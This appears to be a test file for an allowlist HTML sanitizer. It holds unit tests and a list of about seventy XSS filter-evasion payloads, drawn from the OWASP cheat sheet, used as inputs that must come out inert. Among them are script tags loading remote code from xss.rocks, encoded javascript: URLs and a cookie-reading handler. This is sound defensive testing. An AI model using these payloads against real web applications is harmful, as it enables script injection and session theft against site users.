import { sanitizeHtml } from '../sanitize-html';

describe('sanitizeHtml (allowlist)', () => {
  it('keeps allowed tags and safe attributes', () => {
    expect(sanitizeHtml('<h3>Title</h3><p>A <strong>b</strong></p><img src="/api/res/x.svg" width="400" height="400" alt="x">')).toBe(
      '<h3>Title</h3><p>A <strong>b</strong></p><img src="/api/res/x.svg" width="400" height="400" alt="x" loading="lazy" />',
    );
  });

  it('drops script, style and their content, event handlers and unknown tags', () => {
    const out = sanitizeHtml(
      '<p onclick="evil()">hi<script>alert(1)</script><style>p{}</style><iframe src="x"></iframe><marquee>m</marquee></p>',
    );
    expect(out).toBe('<p>him</p>');
    expect(out).not.toMatch(/script|style|onclick|iframe|marquee/);
  });

  it('refuses javascript: URLs however they are spelt', () => {
    for (const href of [
      'javascript:alert(1)',
      'JaVaScRiPt:x',
      'java&#x09;script:x',
      'javascript&colon;x',
      ' &#106;avascript:x',
      'data:text/html,x',
      'vbscript:x',
    ]) {
      expect(sanitizeHtml(`<a href="${href}">x</a>`), href).toBe('<a rel="nofollow noopener">x</a>');
    }
    expect(sanitizeHtml('<a href="https://ok.example/a?b=1&amp;c=2">x</a>')).toBe(
      '<a href="https://ok.example/a?b=1&amp;c=2" rel="nofollow noopener">x</a>',
    );
  });

  it('escapes text and balances unclosed tags', () => {
    expect(sanitizeHtml('1 < 2 & <b>bold')).toBe('1 &lt; 2 &amp; <b>bold</b>');
    expect(sanitizeHtml('<p><em>x</p>')).toBe('<p><em>x</em></p>');
    expect(sanitizeHtml('"><img src=x onerror=alert(1)>')).toBe('"&gt;<img src="x" loading="lazy" />');
  });
});

/**
 * What may survive: allowlisted tags with allowlisted attributes, URLs relative or http(s). Anything
 * else in the output (a tag, an on* or style attribute, a javascript:/data: URL) would be a hole.
 */
const TAGS = new Set(['p', 'br', 'hr', 'h2', 'h3', 'h4', 'h5', 'strong', 'b', 'em', 'i', 'u', 's', 'span', 'div', 'ul', 'ol', 'li']);
['blockquote', 'pre', 'code', 'sub', 'sup', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a', 'img'].forEach((t) => TAGS.add(t));
const ATTRS = new Set(['href', 'title', 'rel', 'src', 'alt', 'width', 'height', 'loading', 'colspan', 'rowspan']);
const decode = (v: string) =>
  v
    .replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&');

function expectInert(out: string, input: string) {
  for (const tag of out.match(/<[^>]*>/g) ?? []) {
    const name = /^<\/?([a-z0-9]+)/i.exec(tag)?.[1]?.toLowerCase();
    expect(name && TAGS.has(name), `${input} -> ${out}: tag ${tag}`).toBe(true);
    for (const [, attr, value] of tag.matchAll(/\s([^\s=/>]+)="([^"]*)"/g)) {
      expect(ATTRS.has(attr!.toLowerCase()), `${input} -> ${out}: attribute ${attr}`).toBe(true);
      if (attr === 'href' || attr === 'src') {
        // eslint-disable-next-line no-control-regex -- browsers skip these inside a scheme
        const url = decode(value!).replace(/[\u0000-\u0020\u007f]/g, '');
        expect(/^[a-z][a-z0-9+.-]*:/i.test(url) ? /^https?:/i.test(url) : true, `${input} -> ${out}: ${attr}=${value}`).toBe(true);
      }
    }
  }
  // No '<' or '>' the browser could read as markup outside the allowed tags: text is escaped.
  expect(out.replace(/<[^>]*>/g, ''), `${input} -> ${out}`).not.toMatch(/[<>]/);
}

// The OWASP XSS Filter Evasion Cheat Sheet, one case per technique.
const OWASP = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(42);//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=java\u0000script:alert("XSS")>`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<svg/onload=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT a=">" '' SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  `<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<a href="jav&#x41;script:alert(1)">x</a>`,
  `<a href="javas&#99;ript:alert(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<div><style><img src=x onerror=alert(1)></style></div>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
];

describe('sanitizeHtml against the OWASP XSS filter evasion cheat sheet', () => {
  it.each(OWASP)('%s leaves nothing that runs', (input) => {
    const out = sanitizeHtml(input);
    expectInert(out, input);
    // Sanitising the output again changes nothing: what the page receives is already a fixed point.
    expect(sanitizeHtml(out)).toBe(out);
  });
});
